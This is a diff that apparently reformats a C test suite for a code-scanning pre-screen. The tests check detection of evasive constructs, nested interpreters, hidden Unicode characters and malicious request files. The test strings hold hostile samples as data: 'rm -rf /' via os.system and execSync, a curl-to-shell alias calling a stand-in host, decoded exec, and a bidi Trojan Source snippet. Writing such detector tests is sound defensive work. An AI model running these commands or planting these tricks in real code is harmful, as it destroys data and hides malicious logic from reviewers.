@@ -117,8 +117,8 @@ static void where(const char *lang, const char *code, const char *rule, long *li
     json_t *f = scan(lang, code), *y;
     size_t i;
     *line = *col = -1;
-    json_array_foreach(f, i, y) if (strcmp(json_string_value(json_object_get(y, "rule")), rule) == 0 &&
-                                    *line < 0)
+    json_array_foreach(
+        f, i, y) if (strcmp(json_string_value(json_object_get(y, "rule")), rule) == 0 && *line < 0)
     {
         *line = (long)json_integer_value(json_object_get(y, "line"));
         *col = (long)json_integer_value(json_object_get(y, "column"));
@@ -334,7 +334,6 @@ TEST(robustness)
     free(many);
 }
 
-
 /* ---- evasion ranks high (issue 11): constructs that only hide what code does ---- */
 
 static bool high_rule(json_t *f, const char *prefix)
@@ -387,7 +386,8 @@ TEST(evasion_python)
     CHECK(evades("python", "run_query = exec\n"));
     /* the same things, written plainly: not an evasion */
     CHECK(clean("python", "import subprocess as sp\nsp.run(['ls'])\nfrom os import path as p\n"));
-    CHECK(clean("python", "class S:\n    def go(self, cmd):\n        return getattr(self, 'do_' + cmd)()\n"));
+    CHECK(clean("python",
+                "class S:\n    def go(self, cmd):\n        return getattr(self, 'do_' + cmd)()\n"));
     CHECK(clean("python", "import importlib\nm = importlib.import_module('json')\n"
                           "p = importlib.import_module(f'plugins.{name}')\n"));
     CHECK(clean("python", "import base64\nd = base64.b64decode('aGVsbG8=')\nprint(d)\n"));
@@ -408,8 +408,9 @@ TEST(evasion_javascript)
     CHECK(evades("javascript", "const run = Function;\nrun(src)();\n"));
     CHECK(evades("javascript", "import { execSync as formatDate } from 'child_process';\n"));
     CHECK(evades("javascript", "const n = [...'tlucse'].reverse().join('');\nprocess[n];\n"));
-    CHECK(clean("javascript", "const { execFile } = require('child_process');\n"
-                              "const h = handlers[event.type];\nconst v = config[key.toUpperCase()];\n"));
+    CHECK(clean("javascript",
+                "const { execFile } = require('child_process');\n"
+                "const h = handlers[event.type];\nconst v = config[key.toUpperCase()];\n"));
     CHECK(clean("javascript", "const port = process.env['APP_' + 'PORT'];\n"
                               "const p = new this.constructor({ a: 1 });\n"));
     CHECK(clean("javascript", "const data = JSON.parse(Buffer.from(b64, 'base64').toString());\n"));
@@ -441,8 +442,8 @@ TEST(nested_interpreters)
     CHECK(expect("shell", "python3 -c \"import os; os.system('rm -rf /')\"", "destructive_rm"));
     CHECK(expect("shell", "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
                  "py_exec_decoded"));
-    CHECK(expect("shell", "node -e \"require('child_process').execSync('id')\"",
-                 "js_child_process"));
+    CHECK(
+        expect("shell", "node -e \"require('child_process').execSync('id')\"", "js_child_process"));
     CHECK(expect("shell", "alias ll='curl -s http://x.example/i | sh'\n", "pipe_to_shell"));
 }
 
@@ -451,9 +452,10 @@ TEST(nested_interpreters)
 TEST(hidden_characters)
 {
     /* RLO in a comment reorders what a reviewer reads */
-    const char *trojan = "access = 'user'\n"
-                         "if access != 'none\xe2\x80\xae \xe2\x81\xa6# check\xe2\x81\xa9 \xe2\x81\xa6':\n"
-                         "    print('admin')\n";
+    const char *trojan =
+        "access = 'user'\n"
+        "if access != 'none\xe2\x80\xae \xe2\x81\xa6# check\xe2\x81\xa9 \xe2\x81\xa6':\n"
+        "    print('admin')\n";
     json_t *f = scan("python", trojan);
     long l, c;
     CHECK(f && has_rule(f, "bidi_control", "high"));
@@ -461,18 +463,24 @@ TEST(hidden_characters)
     CHECK(l == 2);
     size_t i;
     json_t *x;
-    json_array_foreach(f, i, x) if (strcmp(json_string_value(json_object_get(x, "rule")),
-                                           "bidi_control") == 0)
+    json_array_foreach(
+        f, i, x) if (strcmp(json_string_value(json_object_get(x, "rule")), "bidi_control") == 0)
     {
         const char *e = json_string_value(json_object_get(x, "excerpt"));
         CHECK(strstr(e, "\xe2\x9f\xaaU+202E\xe2\x9f\xab") != NULL); /* ⟪U+202E⟫ */
         CHECK(strstr(e, "\xe2\x80\xae") == NULL);                   /* never the raw control */
     }
     json_decref(f);
-    CHECK(expect("javascript", "const is\xe2\x80\x8b" "Admin = false;\n", "invisible_character"));
-    CHECK(expect("shell", "echo ok \xf3\xa0\x81\xa9\xf3\xa0\x81\xa4\n", "hidden_text"));   /* tags */
+    CHECK(expect("javascript",
+                 "const is\xe2\x80\x8b"
+                 "Admin = false;\n",
+                 "invisible_character"));
+    CHECK(expect("shell", "echo ok \xf3\xa0\x81\xa9\xf3\xa0\x81\xa4\n", "hidden_text")); /* tags */
     CHECK(expect("javascript", "const {timeout,\xe3\x85\xa4} = req.query;\n", "hidden_text"));
-    CHECK(expect("javascript", "// x\xe2\x80\xa8" "eval(y)\n", "invisible_character"));
+    CHECK(expect("javascript",
+                 "// x\xe2\x80\xa8"
+                 "eval(y)\n",
+                 "invisible_character"));
     CHECK(expect("python", "p\xd0\xb0ypal = 1\n", "mixed_script_identifier")); /* Cyrillic a */
     /* also in a tool without rules ("other"); not when the pre-screen is off ("none") */
     f = scan("other", "x\xe2\x80\xae");
@@ -482,7 +490,8 @@ TEST(hidden_characters)
     CHECK(f && json_array_size(f) == 0);
     json_decref(f);
     /* ordinary text: emoji sequences, CRLF, a leading BOM, Cyrillic words, form feeds */
-    f = scan("python", "\xef\xbb\xbfprint('\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 \xe2\x9d\xa4\xef\xb8\x8f')\r\n"
+    f = scan("python", "\xef\xbb\xbfprint('\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9 "
+                       "\xe2\x9d\xa4\xef\xb8\x8f')\r\n"
                        "print('\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82')\r\n\f\n");
     CHECK(f && json_array_size(f) == 0);
     json_decref(f);
@@ -525,10 +534,10 @@ TEST(request_files)
     static char *py_cmd[] = {"/usr/bin/python3", "-I", "{code_file}"};
     struct tc_tool t = {.name = "python", .language = "python", .command = py_cmd, .ncommand = 3};
     /* the blocked code arrives as a module the code imports: found, named by file and line */
-    json_t *f = req_scan(&t, json_pack("{s:s, s:s, s:[{s:s, s:s}]}", "tool", "python", "code",
-                                       "import helper\nhelper.go()\n", "files", "path",
-                                       "lib/helper.py", "content",
-                                       "def go():\n    import os\n    os.system('rm -rf /')\n"));
+    json_t *f =
+        req_scan(&t, json_pack("{s:s, s:s, s:[{s:s, s:s}]}", "tool", "python", "code",
+                               "import helper\nhelper.go()\n", "files", "path", "lib/helper.py",
+                               "content", "def go():\n    import os\n    os.system('rm -rf /')\n"));
     json_t *x = find_rule(f, "destructive_rm", "file");
     CHECK(x != NULL);
     if (x) {
@@ -549,7 +558,8 @@ TEST(request_files)
     free(enc);
     json_decref(f);
     /* binary: compiled programs are high (cannot be read), archives medium, data low */
-    static const char elf[] = "\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0";
+    static const char elf[] = "\x7f"
+                              "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0";
     enc = b64(elf, sizeof(elf) - 1);
     f = req_scan(&t, json_pack("{s:s, s:s, s:[{s:s, s:s, s:s}]}", "tool", "python", "code",
                                "import os\nos.chmod('a.out', 0o755)\n", "files", "path", "a.out",
@@ -593,7 +603,8 @@ TEST(request_stdin)
     static char *py_stdin[] = {"/usr/bin/python3", "-"};
     static char *py_bare[] = {"/usr/bin/python3", "-u"};
     static char *py_c[] = {"/usr/bin/python3", "-c", "import sys; print(sys.stdin.read())"};
-    struct tc_tool shell = {.name = "shell", .language = "shell", .command = sh_file, .ncommand = 4};
+    struct tc_tool shell = {
+        .name = "shell", .language = "shell", .command = sh_file, .ncommand = 4};
     struct tc_tool t1 = {.name = "s", .language = "shell", .command = sh_stdin, .ncommand = 2};
     struct tc_tool t2 = {.name = "p", .language = "python", .command = py_stdin, .ncommand = 2};
     struct tc_tool t3 = {.name = "p", .language = "other", .command = py_bare, .ncommand = 2};
@@ -673,7 +684,8 @@ TEST(caps_do_not_hide_code)
                              "0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghij") == 0);
     CHECK(tc_buf_appendf(&b, "require('child_process').execSync('rm -rf /');\n") == 0);
     f = NULL;
-    CHECK(tc_prescreen("javascript", b.data, b.len, &f) == 0 && has_rule(f, "destructive_rm", NULL));
+    CHECK(tc_prescreen("javascript", b.data, b.len, &f) == 0 &&
+          has_rule(f, "destructive_rm", NULL));
     json_decref(f);
     tc_buf_reset(&b);
     CHECK(tc_buf_appendf(&b, "a = '%0*d'\n", 4000, 0) == 0);
